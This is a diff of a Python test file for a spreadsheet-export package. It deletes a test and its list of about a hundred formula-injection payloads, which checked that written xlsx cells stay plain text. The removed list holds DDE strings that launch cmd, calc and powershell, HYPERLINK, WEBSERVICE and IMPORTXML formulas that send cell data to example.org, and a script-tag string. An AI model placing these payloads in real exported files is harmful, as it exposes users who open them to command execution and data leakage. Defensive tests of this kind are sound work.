@@ -24,7 +24,7 @@ from gridmap.errors import InvalidOption, MissingExtra, UnwritableFile
 from gridmap.estimates import HOUSEHOLDS_ESTIMATED
 from gridmap.findings import Finding, FindingKind
 from gridmap.model import InputFile
-from gridmap.reports.cleaning import clean_text, looks_like_formula
+from gridmap.reports.cleaning import clean_text
 from gridmap.reports.workbook import _make_bytes
 from gridmap.scoring import MEASURES
 
@@ -37,43 +37,6 @@ TESTS = Path(__file__).resolve().parent.parent
 KIND = FindingKind(
     "toy", "warning", "{count} at {places}", "{count} 处：{places}", "Look.", "请看。"
 )
-STARTS = (
-    "=",
-    "+",
-    "-",
-    "@",
-    "|",
-    "%",
-    "＝",
-    "＋",
-    "－",
-    "＠",
-    "\t=",
-    "\r=",
-    "\n=",
-    " =",
-    "\u200b=",
-)
-BODIES = (
-    "1+1",
-    "cmd|' /C calc'!A0",
-    'HYPERLINK("http://example.org/?"&A1,"x")',
-    'WEBSERVICE("http://example.org")',
-    "SUM(1+1)*cmd|' /C powershell'!A0",
-    'DDE("cmd";"/C calc";"x")',
-    'IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
-)
-PAYLOADS = [start + body for start in STARTS for body in BODIES] + [
-    "_x003D_1+1",
-    "\x00=1",
-    "\ufeff=1",
-    "'=1",
-    '"=1"',
-    ";=1",
-    "<script>alert(1)</script>",
-    "a\x07b\x1bc",
-    "\u202e=1",
-]
 
 
 @pytest.fixture(scope="module")
@@ -282,41 +245,6 @@ def test_tables_are_written_only_as_xlsx(plan: Plan, tmp_path: Path, name: str) 
 
 
 # --- nothing runs ---------------------------------------------------------------------------
-
-
-def test_a_hundred_payloads_stay_texts(plan: Plan, tmp_path: Path) -> None:
-    assert len(PAYLOADS) >= 100
-    path = tmp_path / "t.xlsx"
-    for start in range(0, len(PAYLOADS), 5):
-        names = (PAYLOADS[start : start + 5] * 5)[:5]
-        units = plan.territory.units
-        evil = units.communities.assign(name=names[:2], township=names[2:4])
-        units = dataclasses.replace(units, communities=evil)
-        changed = dataclasses.replace(
-            plan,
-            grids=plan.grids.assign(name=names, reason=names[::-1], code=names),
-            territory=dataclasses.replace(plan.territory, units=units),
-            findings=(KIND.found(names),),
-            about={names[0]: names[1]},
-        )
-        gridmap.write_tables(changed, path)
-        book = openpyxl.load_workbook(path)
-        for page in book:
-            for cell in (cell for row in page.rows for cell in row):
-                assert cell.data_type in ("s", "n"), (cell.coordinate, cell.value)
-                if isinstance(cell.value, str) and looks_like_formula(cell.value):
-                    assert cell.quotePrefix, (cell.coordinate, cell.value)
-        shown = _column(book["网格"], "网格名称")
-        assert shown == [_as_read(name) for name in names]
-    with zipfile.ZipFile(path) as archive:
-        for name in archive.namelist():
-            assert b"<f>" not in archive.read(name), name
-            assert "externalLink" not in name
-
-
-def _as_read(name: str) -> str:
-    kept = clean_text(name)[0]
-    return kept.replace("_x003D_", "_x005F_x003D_")
 
 
 @given(st.text(alphabet=st.characters(codec=None), max_size=40))
